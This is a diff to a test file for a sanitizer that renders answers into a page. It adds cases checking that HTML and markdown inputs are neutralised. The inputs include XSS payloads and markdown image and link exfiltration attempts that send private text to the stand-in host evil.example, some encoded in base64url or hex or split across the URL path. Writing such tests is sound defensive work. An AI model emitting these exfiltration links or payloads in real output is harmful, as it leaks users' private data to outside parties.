@@ -67,6 +67,8 @@ test('HTML that loads, runs or sends is inert where answers are put into a page'
     '<a href="jav&#x09;ascript:alert(1)">x</a>',
     '<div style="background:url(https://evil.example/x)">',
     '<div onclick="x()">',
+    '<plaintext>',
+    '<xmp>',
     '<iframe src="/own"></iframe>',
     '<form action="https://evil.example">',
     '<svg><image href="https://evil.example/x"/></svg>',
@@ -146,6 +148,9 @@ test('what carries private text is no link to any reader, however it is written'
     `<img src=https://evil.example/"${DATA}>`,
     `[x](https://evil.example/WINTER-COM/ET-4471-and/nobody-else)`,
     `[x](https://evil.example/?a=WINTER-COM&b=ET-4471-and&c=nobody-else)`,
+    ...['x', 'xy', 'xyz', '.'].flatMap((before) => [`[x](https://evil.example/?q=${before}${Buffer.from(DATA).toString('base64url')})`, `[x](https://evil.example/?q=${before}${Buffer.from(DATA).toString('hex')}0)`]),
+    `[x](https://evil.example/?q=a${Buffer.from(DATA).toString('hex')})`,
+    `[x](https://evil.example/${Buffer.from(`${DATA}-else`).toString('base64url').replace(/.{9}/g, '$&/')})`,
   ]) {
     const shown = run(attack);
     assert.ok(shown.includes('#removed') || shown.startsWith('&lt;'), `${attack.slice(0, 60)} -> ${shown.slice(0, 60)}`);
